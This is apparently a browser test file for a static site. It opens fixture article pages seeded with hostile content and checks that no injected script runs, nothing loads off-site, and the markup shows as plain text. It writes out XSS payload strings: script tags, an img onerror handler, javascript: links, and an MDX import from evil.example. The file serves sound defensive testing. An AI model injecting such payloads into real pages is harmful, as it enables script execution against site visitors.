/**
 * Hostile seeds in real browsers (Chromium and Firefox): the run's fixture site, which has tests/fixtures/hostile
 * added to the real seeds (built once per run by the global set-up, tests/support/fixtureSite.ts; served here
 * by its own server), then opens every hostile article page and the pages that list headlines. No injected
 * script may run, no dialog open, nothing load from off the site; the markup must show as text, and at
 * 375 px nothing may make the page scroll sideways.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { useBrowser } from '../support/browser.ts';
import { classList, elements, readPages, textOf } from '../support/html.ts';
import { serveStatic, type StaticServer } from '../support/server.ts';
import { hostileSlugs } from '../fixtures/hostile/corpus.ts';

let server: StaticServer;
const { withContext } = useBrowser({ origin: () => server.origin });
/** Site path → the <title> and the unit texts the build wrote. */
const built = new Map<string, { title: string; units: string[] }>();

const PATHS = () => [...hostileSlugs().map((slug) => `/sources/${slug}/`), '/sources/', '/'];

/** The fixture site with the hostile seeds, built once per run by the global set-up (tests/support/fixtureSite.ts). */
async function builtHostileSite(): Promise<string> {
  const build = inject('fixtureSite');
  if (!build.ok) throw new Error(`the fixture site did not build:\n${build.output}`);
  return build.outDir;
}

beforeAll(async () => {
  const outDir = await builtHostileSite();
  // Only the pages visited are parsed (the fixture site has a hundred).
  const visited = new Set(PATHS());
  for (const page of readPages(outDir).filter((candidate) => visited.has(candidate.path))) {
    const title = textOf(elements(page.tree, (el) => el.tagName === 'title')[0]!);
    const units = elements(page.tree, (el) => classList(el).includes('unit'));
    built.set(page.path, {
      title,
      units: units.map((el) => el.children.flatMap((child) => (child.type === 'text' ? [child.value] : [])).join('')),
    });
  }
  server = await serveStatic(outDir);
});

afterAll(async () => {
  await server?.close();
});

/** What one visit to a page of the hostile site saw. */
interface Seen {
  /** Set when the visit itself broke, e.g. because the page navigated away under the test. */
  failure?: string;
  pwned: unknown;
  title: string;
  scripts: string[];
  /** Every URL the main frame navigated to (the page itself, and nothing else). */
  navigations: string[];
  dialogs: string[];
  popups: string[];
  consoleErrors: string[];
  offSite: string[];
  headlineVisible: boolean;
  /** The article's innerText and textContent (article pages only). */
  articleText: string;
  articleContent: string;
  /** At 375 px: the page's scroll width, and the first elements reaching past the viewport. */
  scrollWidth: number;
  culprits: string[];
}
const seen = new Map<string, Seen>();

/** A visit's record before anything happened. */
const blank = (): Seen => ({
  pwned: undefined,
  title: '',
  scripts: [],
  navigations: [],
  dialogs: [],
  popups: [],
  consoleErrors: [],
  offSite: [],
  headlineVisible: false,
  articleText: '',
  articleContent: '',
  scrollWidth: 0,
  culprits: [],
});

/**
 * Opens each path of the hostile site once, at 1280 px and then at 375 px, recording what happened; requests
 * leaving the server are recorded and refused, dialogs dismissed. One tab for all (a tab costs more than a
 * load), on a blank page between visits; a visit that breaks the tab leaves it for a new one.
 */
async function visitAll(paths: readonly string[]): Promise<Map<string, Seen>> {
  const results = new Map<string, Seen>();
  await withContext({ viewport: { width: 1280, height: 900 } }, async (context) => {
    await context.route(
      (url) => url.origin !== server.origin,
      (route) => route.abort(),
    );
    /** The visit under way: events between visits (the blank page) are nobody's. */
    let current: { result: Seen; requests: string[] } | undefined;
    const newTab = async () => {
      const page = await context.newPage();
      page.on('console', (message) => {
        if (message.type() === 'error') current?.result.consoleErrors.push(message.text());
      });
      page.on('pageerror', (error) => current?.result.consoleErrors.push(error.message));
      page.on('request', (request) => current?.requests.push(request.url()));
      page.on('framenavigated', (frame) => {
        if (frame === page.mainFrame()) current?.result.navigations.push(frame.url());
      });
      page.on('dialog', (dialog) => {
        current?.result.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
        void dialog.dismiss();
      });
      page.on('popup', (popup) => current?.result.popups.push(popup.url()));
      return page;
    };
    let page = await newTab();
    for (const path of paths) {
      const result = blank();
      const requests: string[] = [];
      // Let handlers that would fire after load (autofocus, toggle, a refresh) have their turn.
      const settle = () => page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 50))));
      try {
        await page.goto('about:blank');
        await page.setViewportSize({ width: 1280, height: 900 });
        current = { result, requests };
        await page.goto(server.origin + path, { waitUntil: 'load' });
        await settle();
        Object.assign(
          result,
          await page.evaluate(() => ({
            pwned: (window as unknown as { __pwned?: unknown }).__pwned,
            title: document.title,
            scripts: [...document.scripts].map((script) => script.src || `inline: ${script.text.slice(0, 60)}`),
          })),
        );
        if (path.startsWith('/sources/') && path !== '/sources/') {
          result.headlineVisible = await page.locator('article h1').isVisible();
          result.articleText = await page.locator('article').innerText();
          result.articleContent = (await page.locator('article').textContent()) ?? '';
        }
        await page.setViewportSize({ width: 375, height: 700 });
        await settle();
        Object.assign(
          result,
          await page.evaluate(() => {
            const width = document.documentElement.clientWidth;
            const culprits = [...document.querySelectorAll('body *')]
              .filter((el) => el.getBoundingClientRect().right > width + 1)
              .slice(0, 3)
              .map((el) => `<${el.tagName.toLowerCase()}${el.className ? ` class="${String(el.className)}"` : ''}> to ${Math.round(el.getBoundingClientRect().right)}px`);
            return { scrollWidth: document.documentElement.scrollWidth, culprits };
          }),
        );
      } catch (error) {
        result.failure = (error as Error).message.split('\n')[0];
        page = await newTab();
      }
      current = undefined;
      result.offSite = requests.filter((url) => new URL(url).origin !== server.origin && !url.startsWith('data:'));
      results.set(path, result);
    }
  });
  return results;
}

/** Bidi marks, embeddings, overrides and isolates (LRM, RLM, LRE…RLO, LRI…PDI). */
const BIDI_CONTROLS = /[\u200E\u200F\u202A-\u202E\u2066-\u2069]/g;

/** document.title drops control characters and collapses white space. */
const asTitle = (value: string) => value.replace(/[\u0000-\u001F\u007F-\u009F]/g, '').replace(/\s+/g, ' ').trim();

describe('hostile seeds in the browser', () => {
  beforeAll(async () => {
    for (const [path, result] of await visitAll(PATHS())) seen.set(path, result);
  });

  it('run no injected script, open no dialog and load nothing from off the site, on every page that shows them', () => {
    for (const path of PATHS()) {
      const state = seen.get(path)!;
      expect(state.failure, path).toBeUndefined();
      expect(state.pwned, `${path}: window.__pwned`).toBeUndefined();
      expect(asTitle(state.title), path).toBe(asTitle(built.get(path)!.title));
      expect(state.title, path).not.toBe('PWNED');
      expect(state.navigations, `${path} navigated away`).toEqual([server.origin + path]);
      expect(state.scripts.filter((src) => !src.startsWith(`${server.origin}/_astro/`)), path).toEqual([]);
      expect(state.dialogs, path).toEqual([]);
      expect(state.popups, path).toEqual([]);
      expect(state.consoleErrors, path).toEqual([]);
      expect(state.offSite, path).toEqual([]);
    }
  });

  it('show every hostile paragraph, with its markup, as visible text', () => {
    const payloads: Record<string, string[]> = {
      '/sources/script-tags/': ['<script>window.__pwned=1</script> opens this paragraph', "<script>document.title='PWNED'</script>"],
      '/sources/markup/': [
        `<img src=x onerror="window.__pwned=true;document.title='PWNED'">`,
        '<iframe src="javascript:window.__pwned=true"></iframe>',
        '<style>body{display:none}</style> must not hide the page.',
      ],
      '/sources/javascript-links/': ['[click me](javascript:window.__pwned=1)', '<a href="javascript:window.__pwned=1">click me</a>'],
      '/sources/mdx-jsx/': ["import Evil from 'https://evil.example/evil.mjs'", '{globalThis.__pwned = true}', '<Evil client:load />'],
    };
    const squash = (value: string) => value.replace(/\s+/g, '');
    for (const slug of hostileSlugs().filter((s) => s !== 'control-chars')) {
      const path = `/sources/${slug}/`;
      const { headlineVisible, articleText, articleContent } = seen.get(path)!;
      expect(headlineVisible, `${path}: the headline is hidden`).toBe(true);
      for (const snippet of payloads[path] ?? []) expect(articleText, `${path} does not show ${snippet}`).toContain(snippet);
      // Compared without white space: layout decides where innerText breaks lines. Every character is in the
      // page (textContent), and all of it shows (innerText), bar the bidi controls, which show as nothing and
      // which Firefox's innerText leaves out.
      const [shown, present] = [squash(articleText).replace(BIDI_CONTROLS, ''), squash(articleContent)];
      for (const unit of built.get(path)!.units) {
        expect(present.includes(squash(unit)), `${path} lacks "${unit.slice(0, 60)}…"`).toBe(true);
        expect(shown.includes(squash(unit).replace(BIDI_CONTROLS, '')), `${path} hides "${unit.slice(0, 60)}…"`).toBe(true);
      }
    }
  });

  it('do not make any page scroll sideways at 375 px (the 20,000-character line, the 200-character headline)', () => {
    const overflowing = PATHS()
      .map((path) => ({ path, ...seen.get(path)! }))
      .filter(({ scrollWidth }) => scrollWidth > 375)
      .map(({ path, scrollWidth, culprits }) => `${path}: scrollWidth ${scrollWidth} (${culprits.join(', ')})`);
    expect(overflowing).toEqual([]);
  });
});
